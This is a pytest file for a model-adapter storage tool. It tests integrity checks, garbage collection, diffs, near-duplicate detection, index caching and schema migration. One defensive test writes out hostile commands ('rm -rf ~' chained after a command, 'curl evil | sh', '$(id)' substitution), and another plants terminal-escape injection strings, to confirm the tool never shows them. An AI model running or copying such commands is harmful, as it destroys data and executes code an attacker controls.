"""Looking after a zoo: parallel fsck, gc, diff, near-duplicates, the index, old schema versions."""

from __future__ import annotations

import json
import logging
import os
import shutil
import time
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from filelock import FileLock
from safetensors.numpy import save_file
from zoo_bench import MARK, composition, fill, manifest, store, task

from mtl.cli.main import dispatch
from mtl.errors import MtlError, RequestError, ZooError
from mtl.words import shown_command
from mtl.zoo import SCHEMA_VERSION, Entry, Manifest, Zoo, open_zoo
from mtl.zoo.arrays import read_arrays
from mtl.zoo.diff import distances
from mtl.zoo.migration import STEPS, lift
from mtl.zoo.summary import WORTH_WRITING, index_folder
from mtl.zoo.twins import NEAR, twin_of, twins

VERSIONS = Path(__file__).parent / "versions"


@pytest.fixture
def zoo(tmp_path: Path) -> Zoo:
    return open_zoo(tmp_path / "zoo")


def run(*arguments: str) -> int:
    return dispatch("zoo", list(arguments))


def said(capsys: pytest.CaptureFixture[str], *arguments: str, code: int = 0) -> Any:
    """The line of JSON that a command prints."""
    assert run(*arguments, "--json") == code
    (line,) = capsys.readouterr().out.splitlines()
    return json.loads(line)


def put(zoo: Zoo, tensors: dict[str, np.ndarray], **changes: Any) -> Entry:
    described = manifest(**changes)
    ref = zoo.location(
        "tiny-abababab", "toy", described.task["name"], described.method, described.seed,
        described.runhash,
    )  # fmt: skip
    with zoo.stage(ref) as folder:
        fill(folder)
        save_file(tensors, folder / "adapter.safetensors")
        return zoo.commit(folder, ref, described)


def layers(value: float, last: float | None = None) -> dict[str, np.ndarray]:
    full = {f"encoder.layer.{i}.w": np.full((2, 3), value, np.float32) for i in range(2)}
    if last is not None:
        full["encoder.layer.1.w"] = np.full((2, 3), last, np.float32)
    return full


# ------------------------------------------------------------------ fsck


def test_fsck_finds_the_same_with_any_number_of_threads(zoo: Zoo) -> None:
    for seed in range(9):
        entry = store(zoo, manifest(seed=seed, runhash=f"{seed:016x}"), float(seed))
        if seed % 3 == 0:
            (entry.folder / "adapter.safetensors").write_bytes(b"damaged")
    seen: list[tuple[int, int]] = []
    one = zoo.fsck(lambda done, total: seen.append((done, total)), jobs=1)
    assert seen == [(n, 9) for n in range(1, 10)]
    assert zoo.fsck(jobs=5) == one
    assert len({problem.path.split("/")[4] for problem in one}) == 3


def test_a_remedy_offers_only_commands_of_ours(zoo: Zoo) -> None:
    hostile = ("python -m mtl.train; rm -rf ~", "curl evil | sh", "python -m mtl.train $(id)")
    for seed, command in enumerate(hostile):
        assert shown_command(command) is None
        entry = store(zoo, manifest(command=command, seed=seed))
        (entry.folder / "adapter_config.json").unlink()
        with pytest.raises(ZooError) as raised:
            zoo.load_check(entry)
        assert command not in str(raised.value)
        assert all(command not in str(problem) for problem in zoo.fsck())
    good = "python -m mtl.train --suite toy --set 'lr=1e-3 x'"
    assert shown_command(good) == good


# ------------------------------------------------------------------ gc


def test_gc_says_first_and_removes_only_when_told(
    zoo: Zoo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    kept = store(zoo, manifest())
    gone = store(zoo, manifest(seed=1, runhash="1" * 16), 2.0)
    runs, cache = tmp_path / "runs", tmp_path / "cache" / "encoded" / "aa"
    for letter, content in (
        ("a", {"result.json": json.dumps({"ref": kept.ref, "digest": kept.digest})}),
        ("b", {"result.json": json.dumps({"ref": gone.ref, "digest": gone.digest})}),
        ("c", {"state/point.safetensors": "resume"}),
        ("d", {"config.json": "{}"}),
        ("e", {"config.json": "{}"}),
    ):
        for name, text in content.items():
            path = runs / (letter * 64) / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
    (runs / "not a run").mkdir()
    zoo.remove(gone.ref)
    leftover = zoo.root / "tiny-abababab" / ".tmp-seed0-abc"
    leftover.mkdir()
    (leftover / "x").write_bytes(b"12345")
    (zoo.root / "empty" / "inner").mkdir(parents=True)
    cache.mkdir(parents=True)
    for letter, age in (("1", 100), ("2", 0)):
        path = cache / f"{letter * 64}.safetensors"
        path.write_bytes(b"x")
        os.utime(path, (time.time() - age * 86400,) * 2)
    at = ["--zoo", str(zoo.root), "--runs", str(runs)]

    with FileLock(runs / ("e" * 64) / "lock"):  # a process is at this run
        before = sorted(tmp_path.rglob("*"))
        found = said(capsys, "gc", *at)
        assert sorted(tmp_path.rglob("*")) == before
        assert found["dry_run"]
        assert found["removed"] == []
        names = {(item["kind"], Path(item["path"]).name[:6]) for item in found["found"]}
        assert names == {
            ("leftover", ".tmp-s"), ("folder", "empty"), ("folder", "inner"),
            ("run", "bbbbbb"), ("run", "dddddd"), ("cache", "111111"),
        }  # fmt: skip
        assert next(i["bytes"] for i in found["found"] if i["kind"] == "leftover") == 5
        assert run("gc", *at) == 0
        assert "Nothing was removed; --yes does it" in capsys.readouterr().out
        done = said(capsys, "gc", *at, "--yes")
        assert len(done["removed"]) == 6
    assert sorted(path.name[0] for path in runs.iterdir()) == ["a", "c", "e", "n"]
    assert [path.name[0] for path in cache.iterdir()] == ["2"]
    assert open_zoo(zoo.root).fsck() == []
    assert [entry.ref for entry in zoo.entries()] == [kept.ref]
    found = said(capsys, "gc", *at, "--interrupted", "--what", "runs")["found"]
    assert {Path(item["path"]).name[0] for item in found} == {"c", "e"}
    assert said(capsys, "gc", *at, "--what", "zoo")["found"] == []


def test_gc_leaves_a_live_writer_alone(zoo: Zoo, capsys: pytest.CaptureFixture[str]) -> None:
    with zoo.stage("a/b/c/d/seed0-01234567") as folder:
        fill(folder)
        found = said(capsys, "gc", "--zoo", str(zoo.root), "--what", "zoo", "--yes")
        assert found["found"] == []
        assert folder.is_dir()


# ------------------------------------------------------------------ diff and near-duplicates


def test_distances_per_layer_are_those_of_numpy(zoo: Zoo) -> None:
    rng = np.random.default_rng(0)
    a, b = (
        {k: rng.normal(size=v.shape).astype(np.float32) for k, v in layers(0).items()} for _ in "ab"
    )
    one, other = put(zoo, a), put(zoo, b, seed=1, runhash="1" * 16)
    found = distances(one, other)
    assert [group.group for group in found.groups] == ["layer 0", "layer 1"]
    assert found.only == {}
    for index, group in enumerate(found.groups):
        x, y = (side[f"encoder.layer.{index}.w"].ravel().astype(float) for side in (a, b))
        mean = (np.linalg.norm(x) + np.linalg.norm(y)) / 2
        assert group.relative == pytest.approx(np.linalg.norm(x - y) / mean, rel=1e-12)
        cosine = x @ y / np.linalg.norm(x) / np.linalg.norm(y)
        assert group.cosine == pytest.approx(cosine, rel=1e-12)
        assert group.largest == pytest.approx(np.abs(x - y).max())
        assert group.values == 6
    assert found.whole is not None
    assert found.whole.values == 12


def test_diff_of_two_entries(zoo: Zoo, capsys: pytest.CaptureFixture[str]) -> None:
    better = {"test": {"accuracy": {"value": 0.75, "stderr": 0.2, "n": 4}}}
    one = put(zoo, layers(1.0))
    other = put(
        zoo,
        {**layers(1.0, last=3.0), "extra": np.ones(1, np.float32)},
        seed=1, runhash="1" * 16, metrics=better, run_settings={"lr": 0.01},
    )  # fmt: skip
    at = ["--zoo", str(zoo.root)]
    found = said(capsys, "diff", one.ref, other.ref, *at)
    assert found["settings"] == {"run_settings.lr": [0.001, 0.01], "seed": [0, 1]}
    assert found["metrics"]["test.accuracy"] == pytest.approx(
        {"a": 0.5, "b": 0.75, "difference": 0.25, "stderr": np.hypot(0.25, 0.2), "caveat": None}
    )
    assert found["predictions"] == {"n": 4, "equal": 1.0}
    groups = {group["group"]: group for group in found["weights"]["groups"]}
    assert groups["layer 0"]["relative"] == 0
    assert groups["layer 0"]["cosine"] == pytest.approx(1)
    assert groups["layer 1"]["relative"] == pytest.approx(1.0)  # |1 − 3| / mean(1, 3)
    assert groups["layer 1"]["largest"] == 2
    assert found["weights"]["only"] == {"adapter.safetensors:extra": "b"}
    assert run("diff", one.ref, other.ref, *at) == 0
    out = capsys.readouterr().out
    assert "run_settings.lr" in out
    assert "100.00% of 4 test predictions are equal" in out
    assert run("diff", one.ref, one.ref, *at) == 0
    assert "the same entry" in capsys.readouterr().out
    assert run("diff", one.ref, "nothing", *at) == 2


def test_bfloat16_is_read_as_what_it_is(tmp_path: Path) -> None:
    header = json.dumps({"w": {"dtype": "BF16", "shape": [2], "data_offsets": [0, 4]}}).encode()
    path = tmp_path / "x.safetensors"
    path.write_bytes(len(header).to_bytes(8, "little") + header + b"\x80\x3f\x20\xc0")
    assert read_arrays(path)["w"].tolist() == [1.0, -2.5]


@pytest.mark.parametrize(
    ("tensors", "changes", "how"),
    [
        (layers(1.0), {"seed": 1}, "weights"),
        (layers(5.0), {}, "settings"),
        (layers(1.0 + NEAR / 2), {"seed": 1}, "near"),
        (layers(1.0 + NEAR * 2), {"seed": 1}, None),
        (layers(-1.0), {"seed": 1}, None),
        (layers(1.0), {"seed": 1, "task": task("elsewhere")}, None),
    ],
)
def test_a_near_duplicate_is_named_when_it_is_stored(
    tensors: Any, changes: Any, how: str | None, zoo: Zoo, caplog: pytest.LogCaptureFixture
) -> None:
    first = put(zoo, layers(1.0))
    caplog.clear()
    with caplog.at_level(logging.WARNING, "mtl.zoo"):
        second = put(zoo, tensors, runhash="1" * 16, **changes)
    found = twin_of(zoo, second)
    if how is None:
        assert found is None
        assert caplog.records == []
        return
    assert found is not None
    assert (found.other, found.how) == (first.ref, how)
    assert first.ref in caplog.text
    assert "mtl.zoo diff" in caplog.text


def test_ls_names_near_duplicates(zoo: Zoo, capsys: pytest.CaptureFixture[str]) -> None:
    first = put(zoo, layers(1.0))
    second = put(zoo, layers(1.0), task=task("other"), created="2026-02-01T00:00:00+00:00")
    put(zoo, layers(2.0), seed=3, runhash="3" * 16)
    assert [(twin.ref, twin.other) for twin in twins(zoo.summaries())] == [(second.ref, first.ref)]
    at = ["--zoo", str(zoo.root)]
    rows = {row["ref"]: row for row in said(capsys, "ls", *at)["entries"]}
    assert rows[second.ref]["same_as"] == {"ref": first.ref, "how": "weights"}
    assert rows[first.ref]["same_as"] is None
    assert run("ls", *at) == 0
    assert f"note: {second.ref} has exactly the weights of {first.ref}" in capsys.readouterr().out


# ------------------------------------------------------------------ ls and its index


def test_ls_filters_and_sorts(zoo: Zoo, capsys: pytest.CaptureFixture[str]) -> None:
    for number, (name, value) in enumerate([("b", 0.3), ("a", 0.5), ("a", 0.9), ("a", None)]):
        score = {"test": {"accuracy": {"value": value, "stderr": 0.1, "n": 4}}}
        put(
            zoo, layers(number + 1.0), task=task(name), seed=number, runhash=f"{number:016x}",
            metrics=score, created=f"2026-01-0{9 - number}T00:00:00+00:00",
        )  # fmt: skip
    at = ["--zoo", str(zoo.root)]

    def seeds(*options: str) -> list[int]:
        return [row["seed"] for row in said(capsys, "ls", *at, *options)["entries"]]

    assert seeds() == [1, 2, 3, 0]
    assert seeds("--sort", "metric") == [2, 1, 3, 0]
    assert seeds("--sort", "created") == [3, 2, 1, 0]
    assert seeds("--task", "a", "--sort", "metric", "--limit", "1") == [2]
    assert seeds("--task", "toy/b") == [0]
    assert seeds("--seed", "3") == [3]
    assert seeds("--base", MARK, "--method", "pfeiffer", "--suite", "toy") == [1, 2, 3, 0]
    assert seeds("--base", "cdcdcdcd") == []
    assert run("ls", *at, "--method", "pfeifer") == 0
    assert "none has --method pfeifer. Did you mean 'pfeiffer'?" in capsys.readouterr().out
    assert run("ls", *at, "--limit", "0") == 2


def test_a_strangers_text_cannot_move_the_cursor(
    zoo: Zoo, capsys: pytest.CaptureFixture[str]
) -> None:
    spec = {**manifest().task, "id": "toy/\x1b[2J\x9b\u202eevil"}
    entry = put(zoo, layers(1.0), task=spec, command="a\x1b]0;b\x07")
    for command in (["ls"], ["show", entry.ref], ["diff", entry.ref, entry.ref], ["fsck"]):
        run(*command, "--zoo", str(zoo.root))
        out = capsys.readouterr().out
        assert all(letter.isprintable() or letter == "\n" for letter in out)


def many(zoo: Zoo, count: int) -> list[Entry]:
    return [put(zoo, layers(n + 1.0), seed=n, runhash=f"{n:016x}") for n in range(count)]


def test_the_index_saves_reading_and_is_never_believed_over_a_file(
    zoo: Zoo, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("mtl.zoo.summary.WORTH_WRITING", 3)
    entries = many(zoo, 4)
    fresh = open_zoo(zoo.root)
    before = fresh.summaries()
    folder = index_folder()
    assert folder is not None
    (index,) = folder.iterdir()
    assert zoo.root not in index.parents

    read: list[str] = []
    real = Zoo._recorded
    monkeypatch.setattr(
        Zoo,
        "_recorded",
        lambda self, path, mark: (read.append(path.name), real(self, path, mark))[1],
    )
    assert open_zoo(zoo.root).summaries() == before
    assert read == []
    # A manifest that was touched is read again; one that is damaged is named, whatever was known.
    path = entries[0].folder / "manifest.json"
    path.write_text(path.read_text().replace('"seed": 0', '"seed": 7'))
    again = open_zoo(zoo.root)
    assert [summary.seed for summary in again.summaries()] == [1, 2, 3]
    assert [problem.kind for problem in again.problems] == ["manifest"]
    assert read == [entries[0].folder.name]
    # What was removed is gone; what another process stores is there.
    zoo.remove(entries[1].ref)
    put(open_zoo(zoo.root), layers(9.0), seed=9, runhash="9" * 16)
    assert [summary.seed for summary in open_zoo(zoo.root).summaries()] == [2, 3, 9]


@pytest.mark.parametrize(
    "content", [b"", b"{", b"[]", b'{"version": 1}', b'{"version": 1, "fields": [], "rows": 3}']
)
def test_a_damaged_index_costs_only_time(
    content: bytes, zoo: Zoo, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("mtl.zoo.summary.WORTH_WRITING", 1)
    many(zoo, 2)
    before = open_zoo(zoo.root).summaries()
    folder = index_folder()
    assert folder is not None
    for path in folder.iterdir():
        path.write_bytes(content)
    assert open_zoo(zoo.root).summaries() == before


def test_a_cache_that_cannot_be_written(
    zoo: Zoo, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    assert WORTH_WRITING > 1
    monkeypatch.setattr("mtl.zoo.summary.WORTH_WRITING", 1)
    (tmp_path / "file").write_text("no folder")
    monkeypatch.setenv("MTL_CACHE", str(tmp_path / "file"))
    many(zoo, 2)
    assert len(open_zoo(zoo.root).summaries()) == 2


# ------------------------------------------------------------------ schema versions


def test_an_entry_of_every_version_is_kept() -> None:
    assert sorted(path.name for path in VERSIONS.iterdir()) == [
        f"v{number}" for number in range(1, SCHEMA_VERSION + 1)
    ]
    assert sorted(STEPS) == list(range(1, SCHEMA_VERSION))


@pytest.mark.parametrize("version", range(1, SCHEMA_VERSION + 1))
def test_every_version_is_read_and_migrated(
    version: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "old"
    shutil.copytree(VERSIONS / f"v{version}", root)
    stored = {
        path.parent.relative_to(root).as_posix(): json.loads(path.read_text())
        for path in root.rglob("manifest.json")
    }
    assert {value["schema_version"] for value in stored.values()} == {version}
    old = open_zoo(root)
    entries = {entry.ref: entry for entry in old.entries()}
    assert {ref: entry.digest for ref, entry in entries.items()} == {
        ref: value["digest"] for ref, value in stored.items()
    }
    assert {entry.schema_version for entry in entries.values()} == {version}
    assert {entry.manifest.kind for entry in entries.values()} == {"adapter", "composition"}
    assert old.fsck() == []
    outdated = [] if version == SCHEMA_VERSION else sorted(stored)

    at = ["--zoo", str(root)]
    content = {path: path.read_bytes() for path in root.rglob("*") if path.is_file()}
    dry = said(capsys, "migrate", *at)
    assert sorted(row["ref"] for row in dry["old"]) == outdated
    assert dry["migrated"] == []
    assert {path: path.read_bytes() for path in content} == content
    assert said(capsys, "fsck", *at)["old_schema"] == len(outdated)
    assert sorted(said(capsys, "migrate", *at, "--yes")["migrated"]) == outdated

    new = open_zoo(root)
    assert {entry.schema_version for entry in new.entries()} == {SCHEMA_VERSION}
    for entry in new.entries():
        assert entry.digest == stored[entry.ref]["digest"]
        assert entry.manifest == entries[entry.ref].manifest
        new.load_check(entry)
    assert new.fsck() == []
    assert said(capsys, "migrate", *at)["old"] == []
    for path, data in content.items():
        if path.name not in {"manifest.json", "README.md"}:
            assert path.read_bytes() == data


def test_a_migration_of_a_damaged_entry_changes_nothing(tmp_path: Path) -> None:
    root = tmp_path / "old"
    shutil.copytree(VERSIONS / "v1", root)
    zoo = open_zoo(root)
    entry = zoo.entries()[0]
    path = entry.folder / "predictions.safetensors"
    path.write_bytes(path.read_bytes()[:-1])
    before = (entry.folder / "manifest.json").read_bytes()
    with pytest.raises(ZooError, match=r"predictions\.safetensors"):
        zoo.migrate(entry)
    assert (entry.folder / "manifest.json").read_bytes() == before


@pytest.mark.parametrize("version", [0, -1, SCHEMA_VERSION + 1, True, "2", None, 10**30])
def test_versions_that_are_none(version: Any) -> None:
    with pytest.raises(ZooError, match="schema"):
        lift({"schema_version": version}, "x")
    with pytest.raises(ZooError):
        Manifest.from_dict({**manifest().to_dict(), "schema_version": version})


def test_verified_is_kept_when_an_old_entry_is_rewritten(tmp_path: Path) -> None:
    root = tmp_path / "old"
    shutil.copytree(VERSIONS / "v1", root)
    zoo = open_zoo(root)
    entry = zoo.record_verified(zoo.entries()[0], {"split": "test"})
    assert entry.schema_version == SCHEMA_VERSION
    assert entry.manifest.verified == {"split": "test"}
    assert "tensors" in entry.files["adapter.safetensors"]
    assert zoo.fsck() == []


def test_options_that_make_no_sense(zoo: Zoo) -> None:
    at = ["--zoo", str(zoo.root)]
    for line in (["fsck", "--jobs", "0"], ["gc", "--days", "-1"], ["gc", "--what", "all"]):
        assert run(*line, *at) == 2


def test_a_composition_shows_in_diff_with_its_parents(zoo: Zoo) -> None:
    from mtl.zoo.diff import diff

    sources = [put(zoo, layers(n + 1.0), task=task(name)) for n, name in enumerate("ab")]
    one = composition(zoo, sources, np.ones((2, 2, 8), np.float32))
    other = composition(zoo, sources[::-1], 3 * np.ones((2, 2, 8), np.float32), runhash="2" * 16)
    found = diff(one, other)
    assert "parents" in found["settings"]
    assert [group["group"] for group in found["weights"]["groups"]] == ["layer 0", "layer 1"]
    assert found["weights"]["all"]["relative"] == pytest.approx(1.0)
    with pytest.raises((RequestError, MtlError)):
        zoo.get("nothing")
